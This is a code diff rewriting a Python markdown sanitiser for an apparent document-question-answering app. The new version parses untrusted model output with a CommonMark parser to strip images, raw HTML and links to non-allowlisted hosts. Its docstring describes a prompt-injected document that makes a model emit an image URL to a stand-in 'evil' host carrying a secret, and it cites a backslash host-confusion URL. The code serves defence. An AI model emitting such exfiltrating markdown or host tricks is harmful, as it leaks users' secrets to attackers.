@@ -2,167 +2,271 @@
 
 A prompt-injected document can make the model emit ``![x](https://evil/?q=<secret>)``;
 a markdown renderer fetches the image and the secret leaves, whatever the
-egress NetworkPolicies say. So, in every mode:
+egress NetworkPolicies say. Regular expressions cannot follow CommonMark
+(entities in a destination, a definition split over lines or inside a block
+quote, nested brackets), so the text is parsed with a CommonMark parser
+(markdown-it-py) and written back out as markdown in which:
 
-* markdown images (inline, reference-style and shortcut) are removed, and as a
-  last pass any ``!`` directly before ``[`` is dropped, so no image can be
-  re-formed by what the earlier passes left behind;
-* ``<`` is escaped, so no raw HTML (img, iframe, script, autolinks) survives;
-* any URL whose host is not on the allowlist (empty by default) is removed,
-  wherever it appears: link targets, reference definitions, bare text;
-* ``javascript:``, ``vbscript:``, ``data:`` and ``file:`` URIs are removed;
-* allowlisted hosts are matched on a strict host grammar: a backslash, a
-  percent escape, userinfo or a control character makes a URL not allowed
-  (browsers read ``https://evil.com\\.ok.com`` as host ``evil.com``).
+* images and raw HTML are gone (an image leaves ``(image removed)``);
+* a link is kept only when its resolved URL (``safe_url``: WHATWG rules) points
+  at an allowlisted host (the allowlist is empty by default); otherwise only
+  its label is kept, as text; reference definitions never reach the output;
+* every other character is inert text: ``[``, ``]``, backticks and backslashes
+  are escaped, entity-like ``&`` too, ``<`` becomes ``&lt;``, so nothing in the output can
+  form a link, image, HTML tag or autolink, and a bare URL or e-mail address
+  that a GFM renderer would turn into a link is replaced (URL) or put in a
+  code span (e-mail) unless its host is allowlisted, and so is the text of a
+  ``javascript:``, ``vbscript:``, ``data:`` or ``file:`` URI;
+* ``[S1]``-style citation markers stay as they are when nothing after them
+  could make them a link.
 
-``StreamSanitizer`` applies the same rules to a token stream: it only releases
-text up to a whitespace at which no markdown construct is open, so a construct
-split across tokens is sanitised whole. URLs contain no whitespace, so a URL is
-never split between two released pieces.
+The output is *closed*: two outputs placed one after the other cannot form a
+construct across the seam (the stream relies on this, ``sanitize_stream``).
 """
 
 from __future__ import annotations
 
 import re
-from collections.abc import Iterable
-from urllib.parse import urlsplit
+from collections.abc import Callable, Iterable
 
-IMAGE_REMOVED = "[image removed]"
-LINK_REMOVED = "[link removed]"
+from markdown_it import MarkdownIt
+from markdown_it.tree import SyntaxTreeNode
+
+from docquery.rag.safe_url import HostAllowlist
+
+IMAGE_REMOVED = "(image removed)"
+LINK_REMOVED = "(link removed)"
 TEXT_REMOVED = "(text removed)"
+LABEL_CHARS = 1024
 
-_INLINE_IMAGE = re.compile(r"!\s*\[[^\]]*\]\s*\([^)]*\)?", re.DOTALL)
-_REF_IMAGE = re.compile(r"!\s*\[[^\]]*\]\s*(\[[^\]]*\])?", re.DOTALL)
-_REF_DEF = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*(\S+).*$", re.MULTILINE)
-_LINK = re.compile(r"\[([^\]]*)\]\(\s*([^)\s]*)[^)]*\)", re.DOTALL)
-_DANGEROUS_SCHEME = re.compile(r"(?i)(?:\b(?:javascript|vbscript)\s*:|\bdata:(?=[^\s])|\bfile:(?=/))[^\s)\]]*")
-_URL = re.compile(r"(?i)(?:\b[a-z][a-z0-9+.-]*://|(?<![\w/])//|\bwww\.)[^\s<>()\[\]\"'`]+")
-# Every rule needs one of these: "[" (images, links, definitions), ":" (schemes), "/" (//host),
-# "<" (HTML), "!" (the bang pass) or "www." (bare hosts).
-_TRIGGERS = re.compile(r"(?i)[\[:/<!]|www\.")
-_BANG_BEFORE_BRACKET = re.compile(r"!+(?=\s*\[)")
-_HOST = re.compile(r"^[a-z0-9]([a-z0-9-]*[a-z0-9])?(\.[a-z0-9]([a-z0-9-]*[a-z0-9])?)*$")
-_UNSAFE_URL_CHARS = re.compile(r"[\\%\s\x00-\x1f\x7f]")
+# Without one of these the text has no link, image, HTML, entity, escape, bare URL or e-mail:
+# it is returned as it is (most deltas and citation fields).
+_TRIGGERS = re.compile(r"(?i)[\[\]<\\`&!@:]|www\.")
+# Bare URLs and e-mail addresses a GFM renderer links (plus slash-less schemes, which browsers
+# resolve). Starts are anchored at run beginnings and quantifiers are possessive: linear time.
+_BARE = re.compile(
+    r"(?i)(?P<url>(?<![a-z0-9+.-])(?:[a-z][a-z0-9+.-]*+://|(?:https?|ftp|mailto|xmpp|javascript|vbscript|data|file):)[^\s<]*+"
+    r"|(?<![a-z0-9])www\.[^\s<]*+)"
+    r"|(?P<mail>(?<![a-z0-9._+-])[a-z0-9._+-]++@(?P<domain>[a-z0-9_-]++(?:\.[a-z0-9_-]++)*+))"
+)
+_ESCAPE = re.compile(r"(?P<cite>!?\[S\d{1,4}\])|(?P<char>[\[\]<`])|\\(?=[!-/:-@\[-`{-~]|$)|&(?=#?[a-zA-Z0-9]+;)")
+# A citation marker stays raw only before these, a non-ASCII character, or the end of its line:
+# no "(", "[" or ":" can follow and make it a link or a definition.
+_CITE_FOLLOW = frozenset(" \t\n.,;")
+_BACKTICKS = re.compile(r"`+")
+_FENCE_INFO = re.compile(r"[A-Za-z0-9_+.-]{1,32}")
+_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]+")
+# Marks a piece that starts mid-line, so the parser does not read block syntax there (see render).
+_MIDLINE = "\u2063"
 
 
 class Sanitizer:
+    """Turns untrusted markdown into inert markdown. One parser per instance (no module state)."""
+
     def __init__(self, allowlist: Iterable[str] = ()) -> None:
-        self._allow = {h.lower().strip().rstrip(".") for h in allowlist if h.strip()}
+        self.allow = HostAllowlist(allowlist)
+        # CommonMark with raw HTML recognised (so it can be dropped); no linkify, no typographer.
+        self._md = MarkdownIt("commonmark")
 
     def host_allowed(self, url: str) -> bool:
-        if not self._allow:
-            return False
-        candidate = url if "://" in url else ("https:" + url if url.startswith("//") else "https://" + url)
-        try:
-            parts = urlsplit(candidate)
-        except ValueError:
-            return False
-        if parts.scheme.lower() not in ("http", "https") or parts.username or parts.password:
-            return False
-        if "@" in parts.netloc or _UNSAFE_URL_CHARS.search(parts.netloc):
-            return False
-        host = (parts.hostname or "").lower().rstrip(".")
-        if not _HOST.match(host):
-            return False
-        return any(host == a or host.endswith("." + a) for a in self._allow)
+        return self.allow.allows(url)
 
     def __call__(self, text: str) -> str:
+        return self.render(text)
+
+    def label(self, text: str) -> str:
+        """A one-line field from a document (title, source, page, snippet): controls and newlines
+        become spaces, then the same rules as answers, so no block syntax and no markup. Longer
+        than ``LABEL_CHARS`` it is cut first (a heading can be any length; parsing is not linear
+        in pathological bracket runs)."""
+        flat = " ".join(_CONTROL.sub(" ", text).split())
+        if len(flat) > LABEL_CHARS:
+            flat = flat[: LABEL_CHARS - 1] + "…"
+        return self.render(flat)
+
+    def render(self, text: str, *, at_line_start: bool = True) -> str:
+        """Sanitise ``text``; ``at_line_start=False`` when it continues a line already sent."""
         if not _TRIGGERS.search(text):
-            return text  # no rule below can match: skip the passes (most chunks and deltas)
-        text = _INLINE_IMAGE.sub(IMAGE_REMOVED, text)
-        text = _REF_IMAGE.sub(IMAGE_REMOVED, text)
-        text = _REF_DEF.sub(lambda m: m.group(0) if self.host_allowed(m.group(1)) else "", text)
-        text = _LINK.sub(self._link, text)
-        text = _DANGEROUS_SCHEME.sub(LINK_REMOVED, text)
-        text = _URL.sub(lambda m: m.group(0) if self.host_allowed(m.group(0)) else LINK_REMOVED, text)
-        text = _BANG_BEFORE_BRACKET.sub("", text)
-        return text.replace("<", "&lt;")
-
-    def _link(self, m: re.Match[str]) -> str:
-        label, url = m.group(1), m.group(2)
-        return m.group(0) if self.host_allowed(url) else label
-
-
-class StreamSanitizer:
-    """Sanitises a stream of deltas; call ``feed`` per delta and ``flush`` at the end.
-
-    The concatenation of what it releases carries no construct that the
-    one-shot :class:`Sanitizer` would remove, however the input is split.
-    """
-
-    # Past this much pending text, release it anyway so a never-closed bracket
-    # cannot stall the stream or grow memory without bound. The release cuts at
-    # whitespace; a whitespace-free run that long is dropped whole (and the rest
-    # of that run with it), since half of a URL must never be released.
-    MAX_PENDING = 4096
-
-    def __init__(self, sanitizer: Sanitizer) -> None:
-        self._sanitize = sanitizer
-        self._pending = ""
-        self._dropping_word = False
-
-    def feed(self, delta: str) -> str:
-        if self._dropping_word:
-            delta = self._skip_word(delta)
-            if not delta:
-                return ""
-        self._pending += delta
-        cut = _safe_cut(self._pending)
-        if cut == 0 and len(self._pending) > self.MAX_PENDING:
-            return self._forced_release()
-        ready, self._pending = self._pending[:cut], self._pending[cut:]
-        return self._sanitize(ready) if ready else ""
-
-    def flush(self) -> str:
-        ready, self._pending = self._pending, ""
-        self._dropping_word = False
-        return self._sanitize(ready) if ready else ""
-
-    def _forced_release(self) -> str:
-        last_ws = max((i for i, ch in enumerate(self._pending) if ch.isspace()), default=-1)
-        if last_ws == -1:
-            self._pending = ""
-            self._dropping_word = True
-            return TEXT_REMOVED
-        ready, self._pending = self._pending[: last_ws + 1], self._pending[last_ws + 1 :]
-        # A trailing "!" could pair with a "[" released later: drop it.
-        out = self._sanitize(ready)
-        stripped = out.rstrip()
-        return stripped.rstrip("!") + out[len(stripped) :]
-
-    def _skip_word(self, delta: str) -> str:
-        for i, ch in enumerate(delta):
-            if ch.isspace():
-                self._dropping_word = False
-                return delta[i:]
-        return ""
+            return text
+        core = text.strip()
+        lead = text[: len(text) - len(text.lstrip())]
+        trail = text[len(core) + len(lead) :]
+        if not core:
+            return text
+        # After a newline in the leading whitespace the core does start a line.
+        midline = not at_line_start and "\n" not in lead
+        source = _MIDLINE + core if midline else core
+        out = _Renderer(self.allow).blocks(SyntaxTreeNode(self._md.parse(source)).children, "\n\n")
+        if midline:
+            out = out.replace(_MIDLINE, "", 1)
+        return lead + out + trail
 
 
-def _safe_cut(text: str) -> int:
-    """Index just after the last whitespace at which no ``[``, ``(`` or ``<`` is open.
+def _backslashes_before(s: str, i: int) -> int:
+    n = 0
+    while i - n - 1 >= 0 and s[i - n - 1] == "\\":
+        n += 1
+    return n
 
-    URLs contain no whitespace, so cutting at whitespace never splits one; a
-    ``]`` or ``!`` at the very end might be followed by ``(`` or ``[``, so it stays open.
-    """
-    square = paren = angle = 0
-    cut = 0
-    last_visible = ""  # the last non-whitespace character seen (linear, no re-scan)
-    for i, ch in enumerate(text):
-        if ch == "[":
-            square += 1
-        elif ch == "]" and square:
-            square -= 1
-        elif ch == "(":
-            paren += 1
-        elif ch == ")" and paren:
-            paren -= 1
-        elif ch == "<":
-            angle += 1
-        elif ch == ">" and angle:
-            angle -= 1
-        elif ch.isspace():
-            if not (square or paren or angle) and last_visible not in ("]", "!"):
-                cut = i + 1
-            continue
-        last_visible = ch
-    return cut
+
+class _Renderer:
+    """Writes a markdown-it syntax tree back out as inert markdown."""
+
+    def __init__(self, allow: HostAllowlist) -> None:
+        self.allow = allow
+
+    # -- blocks ------------------------------------------------------------------------------
+    def blocks(self, nodes: list[SyntaxTreeNode], sep: str) -> str:
+        parts = [self.block(n) for n in nodes]
+        return sep.join(p for p in parts if p)
+
+    def block(self, node: SyntaxTreeNode) -> str:
+        render = _BLOCKS.get(node.type)
+        # Anything else: its children, never its raw source.
+        return render(self, node) if render else self.blocks(node.children, "\n\n")
+
+    def paragraph(self, node: SyntaxTreeNode) -> str:
+        return self.inline(node.children[0]) if node.children else ""
+
+    def heading(self, node: SyntaxTreeNode) -> str:
+        level = int(node.tag[1]) if node.tag[1:].isdigit() else 1
+        return "#" * level + " " + self.paragraph(node)
+
+    def blockquote(self, node: SyntaxTreeNode) -> str:
+        inner = self.blocks(node.children, "\n\n")
+        return "\n".join(("> " + line) if line else ">" for line in inner.split("\n"))
+
+    def code(self, node: SyntaxTreeNode) -> str:
+        return _fence(node.content, node.info if node.type == "fence" else "")
+
+    def html_block(self, node: SyntaxTreeNode) -> str:
+        # Raw HTML is never passed on; a block of it is shown as text.
+        lines = (line.strip() for line in node.content.split("\n"))
+        return "\n".join(self.text(line, end_ok=True) for line in lines if line)
+
+    def list_(self, node: SyntaxTreeNode) -> str:
+        tight = all(c.hidden for item in node.children for c in item.children if c.type == "paragraph")
+        sep = "\n" if tight else "\n\n"
+        number = int(str(node.attrs.get("start", 1))) if node.type == "ordered_list" else 0
+        items = []
+        for item in node.children:
+            marker = f"{number}{node.markup or '.'}" if node.type == "ordered_list" else (node.markup or "-")
+            number += 1
+            inner = self.blocks(item.children, sep)
+            pad = " " * (len(marker) + 1)
+            lines = inner.split("\n")
+            head = f"{marker} {lines[0]}" if lines[0] else marker
+            items.append("\n".join([head, *((pad + line) if line else "" for line in lines[1:])]))
+        return sep.join(items)
+
+    # -- inlines -----------------------------------------------------------------------------
+    def inline(self, node: SyntaxTreeNode) -> str:
+        return self.inlines(node.children)
+
+    def inlines(self, nodes: list[SyntaxTreeNode]) -> str:
+        out: list[str] = []
+        for i, child in enumerate(nodes):
+            nxt = nodes[i + 1].type if i + 1 < len(nodes) else "end"
+            out.append(self.one_inline(child, out, end_ok=nxt in ("end", "softbreak", "hardbreak")))
+        return "".join(out)
+
+    def one_inline(self, node: SyntaxTreeNode, before: list[str], *, end_ok: bool) -> str:
+        kind = node.type
+        if kind == "text":
+            return self.text(node.content, end_ok=end_ok)
+        if kind == "link":
+            return self.link(node, before)
+        if kind in ("em", "strong"):
+            mark = node.markup or ("*" if kind == "em" else "**")
+            return mark + self.inlines(node.children) + mark
+        if kind == "code_inline":
+            return _code_span(node.content)
+        # Images are removed, raw HTML is dropped; anything unknown keeps its children only.
+        fixed = _FIXED_INLINE.get(kind)
+        return fixed if fixed is not None else self.inlines(node.children)
+
+    def link(self, node: SyntaxTreeNode, before: list[str]) -> str:
+        href = str(node.attrs.get("href", ""))
+        allowed = self.allow.allows(href)
+        if node.markup == "autolink":
+            return f"<{_dest(href)}>" if allowed and href.lower().startswith(("http:", "https:")) else LINK_REMOVED
+        label = self.inlines(node.children)
+        if not allowed:
+            return label
+        if before and before[-1].endswith("!") and _backslashes_before(before[-1], len(before[-1]) - 1) % 2 == 0:
+            before[-1] = before[-1][:-1] + "\\!"  # "!" + link would be an image
+        return f"[{label}](<{_dest(href)}>)"
+
+    def text(self, content: str, *, end_ok: bool) -> str:
+        out: list[str] = []
+        last = 0
+        for m in _BARE.finditer(content):
+            out.append(_escape(content[last : m.start()], end_ok=False, tail=content[m.start() : m.start() + 1]))
+            last = m.end()
+            found = m.group(0)
+            if m.group("mail") is not None:
+                domain = m.group("domain") or ""
+                keep = self.allow.allows_host(domain)
+                out.append(_escape(found, end_ok=False, tail="") if keep else _code_span(found))
+            elif self.allow.allows(found if "//" in found[:12] else "https://" + found):
+                out.append(_escape(found, end_ok=end_ok and m.end() == len(content), tail=""))
+            else:
+                out.append(LINK_REMOVED)
+        out.append(_escape(content[last:], end_ok=end_ok, tail=""))
+        return "".join(out)
+
+
+def _hr(_renderer: _Renderer, _node: SyntaxTreeNode) -> str:
+    return "***"
+
+
+_BLOCKS: dict[str, Callable[[_Renderer, SyntaxTreeNode], str]] = {
+    "paragraph": _Renderer.paragraph,
+    "heading": _Renderer.heading,
+    "blockquote": _Renderer.blockquote,
+    "bullet_list": _Renderer.list_,
+    "ordered_list": _Renderer.list_,
+    "fence": _Renderer.code,
+    "code_block": _Renderer.code,
+    "html_block": _Renderer.html_block,
+    "hr": _hr,
+}
+_FIXED_INLINE = {"softbreak": "\n", "hardbreak": "\\\n", "image": IMAGE_REMOVED, "html_inline": ""}
+
+
+def _escape(text: str, *, end_ok: bool, tail: str) -> str:
+    def sub(m: re.Match[str]) -> str:
+        cite = m.group("cite")
+        if cite is not None:
+            after = text[m.end() : m.end() + 1] or tail
+            raw = (after in _CITE_FOLLOW or ord(after) > 127) if after else end_ok
+            if raw:
+                return ("\\!" if cite.startswith("!") else "") + cite.lstrip("!")
+            return ("\\!" if cite.startswith("!") else "") + "\\[" + cite.lstrip("!")[1:-1] + "\\]"
+        char = m.group(0)
+        # "&lt;" rather than "\\<": inert in markdown and still no tag if a client inserts it as HTML.
+        return "&lt;" if char == "<" else "\\" + char
+
+    return _ESCAPE.sub(sub, text)
+
+
+def _dest(href: str) -> str:
+    # markdown-it has percent-encoded spaces, "<", ">" and "\\"; "&" would start an entity.
+    return href.replace("&", "&amp;")
+
+
+def _code_span(content: str) -> str:
+    content = content.replace("\n", " ")
+    longest = max((len(r) for r in _BACKTICKS.findall(content)), default=0)
+    fence = "`" * (longest + 1)
+    pad = " " if content.startswith(("`", " ")) or content.endswith(("`", " ")) else ""
+    return f"{fence}{pad}{content}{pad}{fence}"
+
+
+def _fence(content: str, info: str) -> str:
+    # The fence is longer than any backtick run inside, so the content cannot close it early.
+    longest = max((len(r) for r in _BACKTICKS.findall(content)), default=0)
+    fence = "`" * max(3, longest + 1)
+    lang = _FENCE_INFO.match(info.strip())
+    body = content if content.endswith("\n") or not content else content + "\n"
+    return f"{fence}{lang.group(0) if lang else ''}\n{body}{fence}"
